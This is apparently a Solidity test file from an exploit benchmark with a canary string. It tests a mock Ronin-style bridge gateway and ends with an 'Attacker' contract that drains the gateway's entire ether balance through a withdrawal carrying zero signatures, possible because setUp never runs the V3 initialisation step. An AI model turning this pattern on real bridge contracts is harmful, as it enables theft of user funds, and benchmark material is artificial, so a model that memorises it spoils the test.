// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./MainchainGatewayV3.sol";

// assay-canary-02cdc79a-0187-48b4-b7ae-dd9965d91d2e

interface Vm {
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function deal(address who, uint256 amount) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
}

contract Usdc is IERC20 {
    address private minter = msg.sender;
    bool public silent;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function quieten() external {
        require(msg.sender == minter, "minter only");
        silent = true;
    }

    function approve(address spender, uint256 amount) external {
        allowance[msg.sender][spender] = amount;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (silent) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (silent) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);

    Usdc internal usdc;
    RoninBridgeManager internal manager;
    MainchainGatewayV3 internal gateway;
    Attacker internal thief;
    uint256[3] internal keys;

    function setUp() public {
        usdc = new Usdc();
        keys = [uint256(0xA11), 0xB22, 0xC33];
        for (uint256 i; i < 3; ++i) {
            for (uint256 j = i + 1; j < 3; ++j) {
                if (vm.addr(keys[j]) < vm.addr(keys[i])) (keys[i], keys[j]) = (keys[j], keys[i]);
            }
        }
        address[] memory ops = new address[](3);
        uint96[] memory weights = new uint96[](3);
        for (uint256 i; i < 3; ++i) (ops[i], weights[i]) = (vm.addr(keys[i]), 100);
        manager = new RoninBridgeManager(ops, weights);
        gateway = new MainchainGatewayV3();
        gateway.initialize(60, 100);
        gateway.initializeV4(address(0x77)); // the upgrade that was executed
        vm.deal(ANA, 4_000 ether);
        vm.prank(ANA);
        gateway.requestDepositFor{value: 3_996 ether}(ANA, address(0), 3_996 ether);
        usdc.mint(BEN, 2_000_000e6);
        vm.startPrank(BEN);
        usdc.approve(address(gateway), 2_000_000e6);
        gateway.requestDepositFor(BEN, address(usdc), 1_000_000e6);
        vm.stopPrank();
        thief = new Attacker(gateway);
    }

    function receipt(uint256 id, address to, address token, uint256 amount) internal view returns (Transfer.Receipt memory) {
        return Transfer.Receipt(id, block.chainid, to, token, amount);
    }

    function signed(Transfer.Receipt memory r, uint256 from, uint256 n) internal returns (Transfer.Signature[] memory sigs) {
        sigs = new Transfer.Signature[](n);
        for (uint256 i; i < n; ++i) {
            (uint8 v, bytes32 x, bytes32 y) = vm.sign(keys[from + i], Transfer.hash(r, address(gateway)));
            sigs[i] = Transfer.Signature(v, x, y);
        }
    }

    function test_Regular() public {
        gateway.initializeV3(manager);
        require(gateway.getTotalWeight() == 300 && gateway.minimumVoteWeight() == 180, "weights");
        Transfer.Receipt memory r = receipt(1, BEN, address(0), 96 ether);
        gateway.submitWithdrawal(r, signed(r, 0, 2));
        require(BEN.balance == 96 ether && gateway.withdrawalHash(1) != 0, "ether");
        r = receipt(2, ANA, address(usdc), 500e6);
        gateway.submitWithdrawal(r, signed(r, 0, 3));
        require(usdc.balanceOf(ANA) == 500e6, "tokens");
        gateway.setPaused(true);
        gateway.setPaused(false);
        require(gateway.depositCount() == 2 && gateway.wethUnwrapper() == address(0x77), "gateway");
    }

    function test_RefusesStrangers() public {
        MainchainGatewayV3 other = new MainchainGatewayV3();
        vm.startPrank(ANA);
        vm.expectRevert("gw: admin only");
        other.initialize(1, 1);
        vm.expectRevert("gw: admin only");
        other.initializeV3(manager);
        vm.expectRevert("gw: admin only");
        other.initializeV4(ANA);
        vm.expectRevert("gw: admin only");
        other.setPaused(true);
        vm.stopPrank();
    }

    function test_RefusesStepsTwice() public {
        gateway.initializeV3(manager);
        vm.expectRevert("gw: step done");
        gateway.initialize(60, 100);
        vm.expectRevert("gw: step done");
        gateway.initializeV3(manager);
        vm.expectRevert("gw: step done");
        gateway.initializeV4(ANA);
        MainchainGatewayV3 other = new MainchainGatewayV3();
        vm.expectRevert("gw: threshold");
        other.initialize(0, 1);
        vm.expectRevert("gw: threshold");
        other.initialize(2, 1);
    }

    function test_RefusesVotes() public {
        gateway.initializeV3(manager);
        Transfer.Receipt memory r = receipt(7, ANA, address(0), 1 ether);
        Transfer.Signature[] memory two = signed(r, 0, 2);
        Transfer.Signature[] memory one = signed(r, 1, 1);
        vm.expectRevert("gw: votes");
        gateway.submitWithdrawal(r, one);
        Transfer.Signature[] memory twice = new Transfer.Signature[](2);
        (twice[0], twice[1]) = (one[0], one[0]);
        vm.expectRevert("gw: order");
        gateway.submitWithdrawal(r, twice);
        r.chainId += 1;
        Transfer.Signature[] memory elsewhere = signed(r, 0, 2);
        vm.expectRevert("gw: other chain");
        gateway.submitWithdrawal(r, elsewhere);
        r.chainId -= 1;
        gateway.submitWithdrawal(r, two);
        vm.expectRevert("gw: paid already");
        gateway.submitWithdrawal(r, two);
    }

    function test_RefusesDeposits() public {
        vm.deal(address(this), 10);
        vm.expectRevert("gw: nothing");
        gateway.requestDepositFor(ANA, address(0), 0);
        vm.expectRevert("gw: wrong value");
        gateway.requestDepositFor{value: 1}(ANA, address(0), 2);
        vm.prank(BEN);
        vm.expectRevert("gw: wrong value");
        gateway.requestDepositFor{value: 0}(ANA, address(0), 1);
        usdc.quieten();
        vm.expectRevert("gw: token in");
        gateway.requestDepositFor(ANA, address(usdc), 1);
    }

    function test_RefusesWhilePaused() public {
        gateway.initializeV3(manager);
        gateway.setPaused(true);
        vm.deal(address(this), 10);
        vm.expectRevert("gw: paused");
        gateway.requestDepositFor{value: 1}(ANA, address(0), 1);
        Transfer.Receipt memory r = receipt(7, ANA, address(0), 1 ether);
        Transfer.Signature[] memory sigs = signed(r, 0, 2);
        vm.expectRevert("gw: paused");
        gateway.submitWithdrawal(r, sigs);
    }

    function test_RefusesWhatDoesNotMove() public {
        gateway.initializeV3(manager);
        Transfer.Receipt memory r = receipt(7, address(this), address(0), 1 ether);
        Transfer.Signature[] memory sigs = signed(r, 0, 2);
        vm.expectRevert("gw: ether out");
        gateway.submitWithdrawal(r, sigs);
        usdc.quieten();
        r = receipt(8, ANA, address(usdc), 1);
        sigs = signed(r, 0, 2);
        vm.expectRevert("gw: token out");
        gateway.submitWithdrawal(r, sigs);
    }

    function test_RefusesManagers() public {
        address[] memory ops = new address[](2);
        uint96[] memory weights = new uint96[](2);
        (ops[0], ops[1], weights[0], weights[1]) = (ANA, BEN, 1, 1);
        vm.expectRevert("mgr: lists");
        new RoninBridgeManager(new address[](0), new uint96[](0));
        vm.expectRevert("mgr: lists");
        new RoninBridgeManager(ops, new uint96[](3));
        weights[1] = 0;
        vm.expectRevert("mgr: entry");
        new RoninBridgeManager(ops, weights);
        weights[1] = 1;
        ops[1] = address(0);
        vm.expectRevert("mgr: entry");
        new RoninBridgeManager(ops, weights);
        ops[1] = ANA;
        vm.expectRevert("mgr: twice");
        new RoninBridgeManager(ops, weights);
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        exploit();
        require(address(thief).balance >= 3_996 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(gateway);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Withdraws without a single signature.
contract Attacker {
    MainchainGatewayV3 internal gateway;

    constructor(MainchainGatewayV3 gateway_) {
        gateway = gateway_;
    }

    receive() external payable {}

    function run() external {
        uint256 all = address(gateway).balance;
        Transfer.Receipt memory r = Transfer.Receipt(999, block.chainid, address(this), address(0), all);
        gateway.submitWithdrawal(r, new Transfer.Signature[](0));
    }
}
